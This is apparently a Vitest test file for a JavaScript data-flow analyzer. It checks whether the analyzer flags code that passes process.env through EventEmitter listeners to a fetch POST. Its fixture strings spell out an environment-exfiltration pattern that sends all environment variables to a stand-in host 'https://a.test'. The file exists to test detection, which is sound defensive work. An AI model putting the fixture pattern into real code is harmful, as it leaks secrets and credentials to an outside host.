import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** Whether the file sends its whole environment. */
function sends(source: string): boolean {
  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${source}`).flow;
  return flows.some(({ sink, labels }) => sink === 'network' && (labels & LABEL.envAll) !== 0);
}

const SEND = "(x) => fetch('https://a.test', { method: 'POST', body: x })";

test.each([
  ['an emitter', `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('seen', process.env);`],
  [
    'a function that has a name',
    `const bus = new EventEmitter(); const send = ${SEND}; bus.once('seen', send); bus.emit('seen', process.env);`,
  ],
  [
    'whatever is handed around',
    `function listen(bus) { bus.on('seen', ${SEND}); }\nfunction tell(bus) { bus.emit('seen', process.env); }`,
  ],
])('who listens is given what is told: %s', (_, source) => {
  expect(sends(source)).toBe(true);
});

test.each([
  [
    'another event',
    `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('left', process.env);`,
  ],
  [
    'an event of the runtime',
    `import net from 'net'; net.createServer().on('seen', ${SEND}); const bus = new EventEmitter(); bus.emit('seen', process.env);`,
  ],
  [
    'an event without anything',
    `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('seen'); String(process.env);`,
  ],
])('who listens is not given what is told of %s', (_, source) => {
  expect(sends(source)).toBe(false);
});
